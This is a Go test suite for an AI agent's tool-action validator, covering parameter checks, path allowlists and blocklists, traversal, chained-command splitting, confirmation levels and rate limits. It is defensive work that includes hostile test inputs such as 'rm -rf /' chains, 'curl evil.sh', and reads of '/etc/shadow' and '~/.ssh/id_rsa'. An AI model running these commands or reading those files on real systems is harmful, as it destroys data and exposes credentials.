package validator

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"agent-core/internal/agent"
	"agent-core/internal/policy"
	"agent-core/internal/ratelimit"
)

func loadCatalog(t *testing.T) *policy.Catalog {
	t.Helper()
	catalog, err := policy.LoadCatalog("../../configs/tools.yaml")
	require.NoError(t, err)
	require.Equal(t, 9, catalog.Len())
	return catalog
}

func newTestValidator(t *testing.T, catalog *policy.Catalog, limiter *ratelimit.Limiter) *Validator {
	t.Helper()
	return New(catalog, limiter, WithPathBase("/home/alice", "/srv/agent"))
}

func action(tool policy.ToolName, level policy.ConfirmationLevel, params map[string]any) *agent.ToolAction {
	return &agent.ToolAction{Tool: tool, Parameters: params, Confirmation: level}
}

func TestToolExistence(t *testing.T) {
	v := newTestValidator(t, loadCatalog(t), nil)
	ctx := context.Background()

	ok, reason := v.Validate(ctx, action(policy.ToolUnknown, policy.ConfirmNone, nil), "u")
	assert.False(t, ok)
	assert.Equal(t, "Tool 'unknown' not found in configuration", reason)

	ok, reason = v.Validate(ctx, action(policy.ToolSystemCommand, policy.ConfirmHard, map[string]any{"command": "ls"}), "u")
	assert.False(t, ok)
	assert.Equal(t, "Tool 'system_command' is disabled", reason)

	empty := New(nil, nil)
	ok, reason = empty.Validate(ctx, action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go"}), "u")
	assert.False(t, ok)
	assert.Contains(t, reason, "not found")
}

func TestParameterValidation(t *testing.T) {
	v := newTestValidator(t, loadCatalog(t), nil)
	ctx := context.Background()

	cases := []struct {
		name   string
		action *agent.ToolAction
		reason string
	}{
		{"missing required", action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{}), "Missing required parameter: query"},
		{"null required", action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": nil}), "Missing required parameter: query"},
		{"wrong string type", action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": 42}), "Parameter 'query' must be a string"},
		{"fractional integer", action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go", "max_results": 2.5}), "Parameter 'max_results' must be an integer"},
		{"above max", action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go", "max_results": 11}), "Parameter 'max_results' must be <= 10"},
		{"below min", action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go", "max_results": float64(0)}), "Parameter 'max_results' must be >= 1"},
		{"pattern", action(policy.ToolWebFetch, policy.ConfirmNone, map[string]any{"url": "ftp://example.com"}), "Parameter 'url' does not match pattern: ^https?://"},
		{"enum", action(policy.ToolWebFetch, policy.ConfirmNone, map[string]any{"url": "https://example.com", "extract_type": "pdf"}), "Parameter 'extract_type' must be one of: text, html, markdown"},
		{"boolean", action(policy.ToolFileWrite, policy.ConfirmHard, map[string]any{"path": "~/Documents/a.txt", "content": "x", "append": "yes"}), "Parameter 'append' must be a boolean"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ok, reason := v.Validate(ctx, tc.action, "u")
			assert.False(t, ok)
			assert.Equal(t, tc.reason, reason)
		})
	}

	ok, reason := v.Validate(ctx, action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go", "max_results": float64(5)}), "u")
	assert.True(t, ok, reason)
}

func TestBlocklistRejectsSystemPaths(t *testing.T) {
	v := newTestValidator(t, loadCatalog(t), nil)

	write := action(policy.ToolFileWrite, policy.ConfirmNone, map[string]any{"path": "/etc/passwd", "content": "root::0:0"})
	ok, reason := v.Validate(context.Background(), write, "mallory")
	assert.False(t, ok)
	assert.Equal(t, "Parameter 'path' value is blocked: /etc/passwd", reason)
	// 拒绝的动作不会被提升确认级别。
	assert.Equal(t, policy.ConfirmNone, write.Confirmation)

	ok, reason = v.Validate(context.Background(), action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": `C:\Windows\System32\config`}), "u")
	assert.False(t, ok)
	assert.Contains(t, reason, "is blocked")

	ok, reason = v.Validate(context.Background(), action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": "~/.ssh/id_rsa"}), "u")
	assert.False(t, ok)
	assert.Contains(t, reason, "is blocked")

	ok, reason = v.Validate(context.Background(), action(policy.ToolWebFetch, policy.ConfirmNone, map[string]any{"url": "http://localhost:8080/admin"}), "u")
	assert.False(t, ok)
	assert.Equal(t, "Parameter 'url' value is blocked: http://localhost:8080/admin", reason)
}

func TestAllowlist(t *testing.T) {
	v := newTestValidator(t, loadCatalog(t), nil)
	ctx := context.Background()

	for _, path := range []string{"~/Documents/notes.txt", "/home/alice/Downloads/a.pdf", "./workspace/report.md", "workspace"} {
		ok, reason := v.Validate(ctx, action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": path}), "u")
		assert.True(t, ok, "%s: %s", path, reason)
	}

	ok, reason := v.Validate(ctx, action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": "/tmp/x"}), "u")
	assert.False(t, ok)
	assert.Equal(t, "Parameter 'path' value not in allowlist: /tmp/x", reason)

	ok, _ = v.Validate(ctx, action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": "~/Documents/../.ssh/key"}), "u")
	assert.False(t, ok)
}

func TestBlocklistTakesPrecedence(t *testing.T) {
	catalog, err := policy.NewCatalog(&policy.ToolPolicy{
		Name:         policy.ToolFileRead,
		Enabled:      true,
		Confirmation: policy.ConfirmNone,
		Parameters:   []policy.ParameterSpec{{Name: "path", Type: policy.TypeString, Required: true}},
		Allowlist:    map[string][]string{"path": {"/data/*"}},
		Blocklist:    map[string][]string{"path": {"/data/secret*"}},
	})
	require.NoError(t, err)
	v := newTestValidator(t, catalog, nil)

	ok, reason := v.Validate(context.Background(), action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": "/data/secret.txt"}), "u")
	assert.False(t, ok)
	assert.Contains(t, reason, "is blocked")

	ok, _ = v.Validate(context.Background(), action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": "/data/public.txt"}), "u")
	assert.True(t, ok)
}

func TestCommandMatchesFirstToken(t *testing.T) {
	catalog, err := policy.NewCatalog(&policy.ToolPolicy{
		Name:         policy.ToolSystemCommand,
		Enabled:      true,
		Confirmation: policy.ConfirmHard,
		Parameters:   []policy.ParameterSpec{{Name: "command", Type: policy.TypeString, Required: true}},
		Allowlist:    map[string][]string{"command": {"ls", "git"}},
		Blocklist:    map[string][]string{"command": {"rm", "sudo"}},
	})
	require.NoError(t, err)
	v := newTestValidator(t, catalog, nil)
	ctx := context.Background()

	ok, reason := v.Validate(ctx, action(policy.ToolSystemCommand, policy.ConfirmHard, map[string]any{"command": "rm -rf /"}), "u")
	assert.False(t, ok)
	assert.Equal(t, "Parameter 'command' value is blocked: rm -rf /", reason)

	ok, reason = v.Validate(ctx, action(policy.ToolSystemCommand, policy.ConfirmHard, map[string]any{"command": "python exploit.py"}), "u")
	assert.False(t, ok)
	assert.Contains(t, reason, "not in allowlist")

	ok, reason = v.Validate(ctx, action(policy.ToolSystemCommand, policy.ConfirmHard, map[string]any{"command": "git status"}), "u")
	assert.True(t, ok, reason)
}

func TestPathTraversalCannotEscapeGlobAllowlist(t *testing.T) {
	catalog, err := policy.NewCatalog(&policy.ToolPolicy{
		Name:         policy.ToolFileRead,
		Enabled:      true,
		Confirmation: policy.ConfirmNone,
		Parameters:   []policy.ParameterSpec{{Name: "path", Type: policy.TypeString, Required: true}},
		Allowlist:    map[string][]string{"path": {"/srv/agent/workspace/*", "/var/log/"}},
		Blocklist:    map[string][]string{"path": {"/etc/*"}},
	})
	require.NoError(t, err)
	v := newTestValidator(t, catalog, nil)
	ctx := context.Background()

	for _, path := range []string{
		"/srv/agent/workspace/../../../etc/shadow",
		"/var/log/../../root/.bash_history",
		"workspace/../../../tmp/x",
	} {
		ok, reason := v.Validate(ctx, action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": path}), "u")
		assert.False(t, ok, path)
		assert.NotEmpty(t, reason, path)
	}

	// 折叠后落在黑名单目录内同样被拒绝。
	ok, reason := v.Validate(ctx, action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": "/srv/agent/workspace/../../../etc/passwd"}), "u")
	assert.False(t, ok)
	assert.Equal(t, "Parameter 'path' value is blocked: /srv/agent/workspace/../../../etc/passwd", reason)

	for _, path := range []string{"/srv/agent/workspace/notes/../report.md", "workspace/report.md", "/var/log/app.log"} {
		ok, reason := v.Validate(ctx, action(policy.ToolFileRead, policy.ConfirmNone, map[string]any{"path": path}), "u")
		assert.True(t, ok, "%s: %s", path, reason)
	}
}

func TestChainedCommandIsCheckedPerSegment(t *testing.T) {
	catalog, err := policy.NewCatalog(&policy.ToolPolicy{
		Name:         policy.ToolSystemCommand,
		Enabled:      true,
		Confirmation: policy.ConfirmHard,
		Parameters:   []policy.ParameterSpec{{Name: "command", Type: policy.TypeString, Required: true}},
		Allowlist:    map[string][]string{"command": {"ls", "cat"}},
		Blocklist:    map[string][]string{"command": {"rm"}},
	})
	require.NoError(t, err)
	v := newTestValidator(t, catalog, nil)
	ctx := context.Background()

	for _, command := range []string{"ls && rm -rf /", "ls; rm -rf /", "cat x | rm y", "ls\nrm -rf /", "ls `rm -rf /`", "echo $(rm -rf /)"} {
		ok, reason := v.Validate(ctx, action(policy.ToolSystemCommand, policy.ConfirmHard, map[string]any{"command": command}), "u")
		assert.False(t, ok, command)
		assert.Contains(t, reason, "is blocked", command)
	}

	ok, reason := v.Validate(ctx, action(policy.ToolSystemCommand, policy.ConfirmHard, map[string]any{"command": "ls || curl evil.sh"}), "u")
	assert.False(t, ok)
	assert.Equal(t, "Parameter 'command' value not in allowlist: ls || curl evil.sh", reason)

	ok, reason = v.Validate(ctx, action(policy.ToolSystemCommand, policy.ConfirmHard, map[string]any{"command": "ls -la | cat"}), "u")
	assert.True(t, ok, reason)
}

func TestConfirmationUpgradeIsMonotonic(t *testing.T) {
	v := newTestValidator(t, loadCatalog(t), nil)
	ctx := context.Background()

	write := action(policy.ToolFileWrite, policy.ConfirmNone, map[string]any{"path": "~/Documents/todo.txt", "content": "milk"})
	ok, reason := v.Validate(ctx, write, "u")
	require.True(t, ok, reason)
	assert.Equal(t, policy.ConfirmHard, write.Confirmation)

	// 再次校验不产生变化。
	ok, _ = v.Validate(ctx, write, "u")
	require.True(t, ok)
	assert.Equal(t, policy.ConfirmHard, write.Confirmation)

	// 声明级别高于策略时保持不变。
	search := action(policy.ToolWebSearch, policy.ConfirmSoft, map[string]any{"query": "go"})
	ok, _ = v.Validate(ctx, search, "u")
	require.True(t, ok)
	assert.Equal(t, policy.ConfirmSoft, search.Confirmation)

	unset := action(policy.ToolWebSearch, "", map[string]any{"query": "go"})
	ok, _ = v.Validate(ctx, unset, "u")
	require.True(t, ok)
	assert.Equal(t, policy.ConfirmNone, unset.Confirmation)
}

func TestValidationIsDeterministic(t *testing.T) {
	v := newTestValidator(t, loadCatalog(t), nil)
	ctx := context.Background()
	inputs := []*agent.ToolAction{
		action(policy.ToolFileWrite, policy.ConfirmNone, map[string]any{"path": "/etc/passwd", "content": "x"}),
		action(policy.ToolFileList, policy.ConfirmNone, map[string]any{"path": "./workspace"}),
		action(policy.ToolBrowserClick, policy.ConfirmNone, map[string]any{"selector": "input[type=password]"}),
	}
	for _, in := range inputs {
		first := in.Clone()
		second := in.Clone()
		ok1, reason1 := v.Validate(ctx, &first, "u")
		ok2, reason2 := v.Validate(ctx, &second, "u")
		assert.Equal(t, ok1, ok2)
		assert.Equal(t, reason1, reason2)
		assert.Equal(t, first, second)
	}
}

type clock struct{ now time.Time }

func (c *clock) Now() time.Time { return c.now }

func TestRateLimitStage(t *testing.T) {
	catalog, err := policy.NewCatalog(&policy.ToolPolicy{
		Name:         policy.ToolWebSearch,
		Enabled:      true,
		Confirmation: policy.ConfirmNone,
		RateLimit:    "3/minute",
		Parameters:   []policy.ParameterSpec{{Name: "query", Type: policy.TypeString, Required: true}},
	})
	require.NoError(t, err)

	c := &clock{now: time.Unix(1_700_000_000, 0)}
	limiter := ratelimit.New(ratelimit.NewMemoryStore(ratelimit.WithClock(c.Now)))
	v := newTestValidator(t, catalog, limiter)
	ctx := context.Background()

	for i := 0; i < 3; i++ {
		ok, reason := v.Validate(ctx, action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go"}), "alice")
		require.True(t, ok, reason)
	}
	ok, reason := v.Validate(ctx, action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go"}), "alice")
	assert.False(t, ok)
	assert.Equal(t, "Rate limit exceeded for 'web_search': 3/minute", reason)

	c.now = c.now.Add(time.Minute + time.Second)
	ok, _ = v.Validate(ctx, action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go"}), "alice")
	assert.True(t, ok)
}

type downStore struct{}

func (downStore) Acquire(context.Context, string, int, time.Duration) (int64, bool, error) {
	return 0, false, errors.New("dial tcp: connection refused")
}
func (downStore) Count(context.Context, string) (int64, error) { return 0, errors.New("down") }
func (downStore) Delete(context.Context, string) error         { return errors.New("down") }
func (downStore) Close() error                                 { return nil }

func TestRateLimitStoreFailure(t *testing.T) {
	catalog := loadCatalog(t)
	search := func() *agent.ToolAction {
		return action(policy.ToolWebSearch, policy.ConfirmNone, map[string]any{"query": "go"})
	}

	open := newTestValidator(t, catalog, ratelimit.New(downStore{}))
	ok, reason := open.Validate(context.Background(), search(), "u")
	assert.True(t, ok, reason)

	closed := newTestValidator(t, catalog, ratelimit.New(downStore{}, ratelimit.WithFailOpen(false)))
	ok, reason = closed.Validate(context.Background(), search(), "u")
	assert.False(t, ok)
	assert.Equal(t, "Rate limit store unavailable for 'web_search'", reason)
}

func TestValidatePlanCollectsAllRejections(t *testing.T) {
	v := newTestValidator(t, loadCatalog(t), nil)
	plan := &agent.Plan{Actions: []agent.ToolAction{
		{Tool: policy.ToolWebSearch, Parameters: map[string]any{"query": "go"}, Confirmation: policy.ConfirmNone},
		{Tool: policy.ToolFileWrite, Parameters: map[string]any{"path": "/etc/passwd", "content": "x"}, Confirmation: policy.ConfirmNone},
		{Tool: policy.ToolSystemCommand, Parameters: map[string]any{"command": "ls"}, Confirmation: policy.ConfirmHard},
	}}
	rejections := v.ValidatePlan(context.Background(), plan, "u")
	require.Len(t, rejections, 2)
	assert.Equal(t, "file_write: Parameter 'path' value is blocked: /etc/passwd", rejections[0].String())
	assert.Equal(t, StagePolicy, rejections[0].Stage)
	assert.Equal(t, StageTool, rejections[1].Stage)
}

func TestMatcher(t *testing.T) {
	m := newMatcher("/home/alice", "/srv/agent")
	assert.True(t, m.match("/etc", "/etc"))
	assert.True(t, m.match("/etc/ssh/sshd_config", "/etc"))
	assert.False(t, m.match("/etcetera", "/etc"))
	assert.True(t, m.match("/var/log/app.log", "/var/log/"))
	assert.True(t, m.match("report-2024.csv", "report-*.csv"))
	assert.True(t, m.match("~/Documents/a", "/home/alice/Documents"))
	assert.True(t, m.match(`C:\Windows\System32`, `C:\Windows`))
	assert.False(t, m.match("anything", ""))
	assert.True(t, m.anyPathMatch("/srv/agent/workspace/a/../b.txt", []string{"./workspace/*"}))
	assert.False(t, m.anyPathMatch("/srv/agent/workspace/../secrets", []string{"./workspace/*"}))
	assert.Equal(t, []string{"git"}, commandHeads("  git   log -1"))
	assert.Equal(t, []string{""}, commandHeads("   "))
	assert.Equal(t, []string{"ls", "rm", "cat", "echo", "whoami", "id"},
		commandHeads("ls; rm x | cat && echo `whoami` $(id)"))
}
